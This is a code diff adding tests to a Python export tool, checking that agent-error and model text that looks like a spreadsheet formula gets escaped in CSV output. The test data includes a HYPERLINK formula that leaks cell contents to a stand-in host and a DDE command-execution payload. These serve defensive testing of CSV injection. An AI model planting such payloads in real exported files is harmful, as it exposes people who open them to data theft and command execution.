@@ -244,3 +244,39 @@ def test_export_through_a_link_writes_the_file_it_names(tmp_path: Path) -> None:
     link.symlink_to(real)
     assert main(["export", str(db), "--out", str(link)]) == 0
     assert link.is_symlink() and len(real.read_text().splitlines()) == 4
+
+
+def test_csv_text_a_spreadsheet_would_run_is_guarded_unless_raw(tmp_path: Path) -> None:
+    """An agent's error text or a plugin's model name that starts like a formula is written
+    with a leading apostrophe (a spreadsheet shows it as text); numbers, JSON and the JSONL
+    export are untouched; ``--csv-raw`` writes the text as stored."""
+    records, steps = synthetic_study(seed=3, worlds=("plains-1",), reps=1)
+    evil = '=HYPERLINK("http://x.example/?"&A1,"see")'
+    records = [
+        replace(r, agent_error=evil if i == 0 else "", model="@cmd" if i == 1 else r.model)
+        for i, r in enumerate(records)
+    ]
+    db = write_db(tmp_path / "r.db", records, steps)
+    assert main(["export", str(db), "--out", str(tmp_path / "safe.csv")]) == 0
+    assert main(["export", str(db), "--out", str(tmp_path / "raw.csv"), "--csv-raw"]) == 0
+    assert main(["export", str(db), "--out", str(tmp_path / "r.jsonl")]) == 0
+    first, second = records[0].episode_id, records[1].episode_id
+    safe = {r["episode_id"]: r for r in csv.DictReader((tmp_path / "safe.csv").open())}
+    raw = {r["episode_id"]: r for r in csv.DictReader((tmp_path / "raw.csv").open())}
+    assert safe[first]["agent_error"] == "'" + evil
+    assert safe[second]["model"] == "'@cmd"
+    assert raw[first]["agent_error"] == evil and raw[second]["model"] == "@cmd"
+    assert safe[first]["score"] == str(records[0].score)
+    assert json.loads(safe[first]["milestones"]) == records[0].milestones
+    stored = [json.loads(line) for line in (tmp_path / "r.jsonl").read_text().splitlines()]
+    assert {r["episode_id"]: r["agent_error"] for r in stored}[first] == evil
+    assert main(["export", str(db), "--out", str(tmp_path / "x.jsonl"), "--csv-raw"]) == 2
+
+
+def test_report_csv_tables_guard_formulas_but_keep_negative_numbers() -> None:
+    from mirrorcraft.report.render import Table, render_csv
+
+    table = Table("t", "T", ["model", "RIE"], [["=cmd|' /C calc'!A0", "-0.25"], ["-x", None]])
+    rows = list(csv.reader(render_csv(table).splitlines()))
+    assert rows[1] == ["'=cmd|' /C calc'!A0", "-0.25"]
+    assert rows[2] == ["'-x", ""]
